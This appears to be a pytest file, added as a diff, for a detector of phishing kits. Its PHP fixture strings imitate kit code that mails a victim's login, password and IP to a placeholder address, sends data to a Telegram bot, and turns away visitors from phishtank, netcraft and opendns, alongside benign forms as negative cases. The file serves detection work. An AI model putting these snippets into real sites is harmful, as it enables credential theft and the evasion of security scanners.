@@ -1,0 +1,61 @@
+from __future__ import annotations
+
+import pytest
+
+from pratique.content.base import Content
+from pratique.content.kit import find
+
+CATCH = b"""<?php if (false) {
+$m = "Login : " . $_SESSION['user'] . "\\n";
+$m .= "Password : " . $_POST['password'] . "\\n";
+$m .= "IP : " . $_SERVER['REMOTE_ADDR'];
+send($m); mail("catch@b.example.net", "x", $m);
+header("Location: https://login.example.com/"); }"""
+
+
+def marks(held, path="/srv/www/a/x.php"):
+    return {(one.mark, one.quote) for one in find(Content(held, path, "php"))}
+
+
+def names(held):
+    return {mark for mark, _ in marks(held)}
+
+
+def test_a_catch_and_where_it_goes():
+    found = marks(CATCH)
+    assert "php-collects-credentials" in {mark for mark, _ in found}
+    assert ("credential-destination", "catch@b.example.net") in found
+
+
+def test_most_of_a_key_is_left_out():
+    held = b"<?php $token = '1234567890:" + b"A" * 35 + b"'; $chat_id = '-100123456789';"
+    assert marks(held) == {
+        ("credential-destination", "Telegram bot 1234567890:AAAA…"),
+        ("credential-destination", "Telegram chat -100123456789"),
+    }
+
+
+def test_watchers_are_turned_away():
+    held = (
+        b"<?php if (false) { $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); foreach (array('phishtank',"
+        b"'netcraft','opendns') as $w) if (strpos($h, $w)) { header('HTTP/1.0 404 Not Found'); die(); } }"
+    )
+    assert "php-shuts-out-watchers" in names(held)
+
+
+@pytest.mark.parametrize(
+    "held",
+    [
+        # A contact form.
+        b"<?php $m = \"Name: \" . $_POST['name'] . \" E-mail: \" . $_POST['email'] . $_SERVER['REMOTE_ADDR'];"
+        b" mail('me@a.example', 'Contact', $m); header('Location: thanks.php');",
+        # A registration.
+        b"<?php if (password_verify($_POST['password'], $row)) { mail($to, 'Password : ' . $x, 'Login : ' . $y);"
+        b" header('Location: index.php'); } $ip = $_SERVER['REMOTE_ADDR'];",
+        # A list of robots.
+        b"<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot')) exit; $x = array('bingbot', 'slurp');",
+        b"<?php // @author a@b.example.net\n$x = 1;",
+    ],
+)
+def test_leaves_alone(held):
+    assert names(held) == set()
